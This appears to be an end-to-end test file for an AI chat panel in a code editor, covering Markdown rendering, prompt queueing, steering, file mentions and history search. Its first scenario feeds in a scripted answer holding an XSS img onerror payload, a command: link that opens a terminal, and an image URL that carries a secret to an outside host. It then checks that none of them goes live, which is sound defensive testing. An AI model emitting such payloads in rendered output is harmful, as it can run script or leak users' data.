import assert from "node:assert/strict";
import { scenario } from "../harness/scenario.ts";

const notes = { "notes.txt": "colour=red\n", "README.md": "# Notes\n" };

scenario(
  "An answer streams in as Markdown, and nothing of it becomes a live element",
  `
turns:
  - at: 0
    when: {user_contains: second}
    answer: {text: 'The second answer.'}
  - at: 0
    answer:
      reasoning: I think about colours.
      text: |
        Look at **this**:

        \`\`\`csharp
        var colour = "green";
        \`\`\`

        <img src=x onerror="document.title='owned'"> and [a link](https://example.com/) and [a trap](command:workbench.action.terminal.new) ![a picture](https://pictures.example/?d=SECRET)
`,
  { workspace: notes },
  async ({ workbench }) => {
    const panel = await workbench.openChat();
    await panel.send("What colour is it?");
    await panel.items("user").filter({ hasText: "What colour is it?" }).waitFor();
    await panel.said("Look at this");
    await panel.idle();

    const answer = panel.items("agent").first();
    assert.equal(await answer.locator("strong").innerText(), "this");
    assert.match(await answer.locator("pre").innerText(), /var colour = "green";/);
    assert.equal(await answer.locator("img").count(), 0, "an image of the model is drawn");
    assert.match(await answer.innerText(), /<img src=x onerror/);
    assert.equal(await answer.locator('a[href^="command:"]').count(), 0, "a command link is live");
    assert.equal(await panel.items("thought").count(), 1);

    await panel.send("And the second?");
    await panel.said("The second answer.");
  },
);

scenario(
  "What is queued while a turn runs waits through a stop and goes out behind the next prompt",
  `
turns:
  - at: 0
    when: {user_contains: queued}
    answer: {text: 'The queued one is answered.'}
  - at: 0
    when: {user_contains: slow}
    answer: {text: 'A slow answer that goes on for a while.'}
  - at: 0
    answer: {text: Otherwise.}
`,
  { workspace: notes },
  async ({ workbench, model }) => {
    const panel = await workbench.openChat();
    await model.fault({ delayPerChunkMs: 2_000, writeSize: 24 });
    await panel.send("A slow one.");
    await panel.byId("stop").waitFor();
    await panel.send("A queued one.");
    await panel.byId("queued").filter({ hasText: "A queued one." }).waitFor();
    await panel.byId("stop").click();
    await panel.idle();
    await panel.send("Something quick.");
    await panel.said("Otherwise.");
    await panel.said("The queued one is answered.");
    await panel.idle();
    const users = (await model.requests()).at(-1)!.messages.filter(({ role }) => role === "user").map(({ content }) => JSON.stringify(content));
    assert.ok(users.at(-1)!.includes("A queued one."), "the queued prompt came last");
  },
);

scenario(
  "What steers a running turn reaches the model at its next step",
  `
turns:
  - when: {user_contains: only text files}
    answer: {text: 'Only text files, then.'}
  - at: 0
    answer: {calls: [{tool: write, arguments: {path: seen.txt, content: everything}}]}
  - at: 1
    answer: {text: 'Looked at everything.'}
`,
  { workspace: notes },
  async ({ workbench, model }) => {
    const panel = await workbench.openChat();
    await panel.send("Have a look around.");
    // The turn waits here, and what steers it leaves before the answer to this.
    await panel.openApproval.waitFor();
    await panel.composer.fill("Mind only text files.");
    await panel.composer.press("Control+Enter");
    await panel.byId("queued").filter({ hasText: "Mind only text files." }).waitFor();
    await panel.option("allow_once").click();
    await panel.said("Only text files, then.");
    await panel.idle();
    assert.equal((await model.requests()).length, 2);
  },
);

scenario(
  "A mention is found by its name and its text reaches the model",
  `
turns:
  - answer: {text: 'I have read it.'}
`,
  { workspace: notes },
  async ({ workbench, model }) => {
    const panel = await workbench.openChat();
    await panel.composer.pressSequentially("What does @not");
    await panel.byId("mention-list").getByText("notes.txt").first().waitFor();
    await panel.composer.press("Enter");
    await panel.composer.pressSequentially(" say?");
    await panel.composer.press("Enter");
    await panel.said("I have read it.");
    assert.match(JSON.stringify((await model.requests()).at(-1)!.messages), /colour=red/);
  },
);

scenario(
  "A conversation is found by its words after another was begun, and goes on",
  `
turns:
  - at: 0
    when: {user_contains: kangaroo}
    answer: {text: 'It hops.'}
  - at: 0
    when: {user_contains: again}
    answer: {text: 'Still hopping.'}
  - at: 0
    answer: {text: Something else.}
`,
  { workspace: notes },
  async ({ workbench, model }) => {
    const panel = await workbench.openChat();
    await panel.send("What does a kangaroo do?");
    await panel.said("It hops.");
    await workbench.command("EditorAgent: New Session");
    await panel.items("agent").first().waitFor({ state: "detached" });
    await panel.send("A new matter.");
    await panel.said("Something else.");
    await panel.byId("open-history").click();
    await panel.byId("history-search").fill("hops");
    await panel.frame.locator(".history-open", { hasText: "kangaroo" }).first().click();
    await panel.said("It hops.");
    await panel.send("And again?");
    await panel.said("Still hopping.");
    assert.match(JSON.stringify((await model.requests()).at(-1)!.messages), /kangaroo/);
  },
);
